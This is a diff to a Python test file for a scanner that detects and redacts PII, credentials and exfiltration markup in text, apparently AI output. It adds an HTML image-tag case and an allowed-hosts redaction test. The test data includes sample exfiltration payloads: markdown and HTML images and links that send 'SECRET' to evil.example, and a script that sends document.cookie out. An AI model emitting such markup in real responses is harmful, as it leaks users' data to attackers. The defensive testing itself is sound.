@@ -55,6 +55,7 @@ def kinds(text: str, **kw) -> list[str]:
     ("ssn 123-45-6789", "pii.ssn_us"),
     ("![x](https://evil.example/p?q=SECRET)", "exfil.image"),
     ("[click here](https://evil.example/p?q=SECRET)", "exfil.link"),
+    ('<img alt="" src="https://evil.example/p?q=SECRET">', "exfil.image"),
     ("<script>fetch('https://evil/'+document.cookie)</script>", "html.script"),
 ])
 def test_true_positives(text: str, kind: str) -> None:
@@ -120,6 +121,12 @@ def test_nested_image_in_link_and_autolink() -> None:
     out = redact(text, scan_output(text))
     assert "evil.a/" not in out and "evil.b/" not in out and "evil.c/" not in out
     assert "[image removed: evil.a]" in out and "[link removed: evil.c]" in out
+
+
+def test_html_img_to_blocked_host() -> None:
+    text = 'a <img src="https://evil.example/x?d=1" width=1> b <IMG SRC=https://cdn.ok.com/y.png> c'
+    out = redact(text, scan_output(text, allowed_hosts=["cdn.ok.com"]))
+    assert out == "a [image removed: evil.example] b <IMG SRC=https://cdn.ok.com/y.png> c"
 
 
 def test_html_script_stripped_and_tags_opt_in() -> None:
@@ -195,7 +202,8 @@ _ALPHABET = st.sampled_from(list("ab 1.-:@![]()<>/\n") + ["sk-", "jane@acme.io",
                                                            "<script>", "</script>", "-----BEGIN RSA PRIVATE KEY-----",
                                                            "-----END RSA PRIVATE KEY-----", "eyJhbGciOi", "8.8.4.4",
                                                            "2001:db8::", "+44 20 7946 0958", "AKIAIOSFODNN7EXAMPLE",
-                                                           "abcdefghij0123456789", "[c]: ", "Bearer "])
+                                                           "abcdefghij0123456789", "[c]: ", "Bearer ",
+                                                           "<img src=", "'https://ok.com/i.png'"])
 
 
 @settings(max_examples=300, deadline=None)
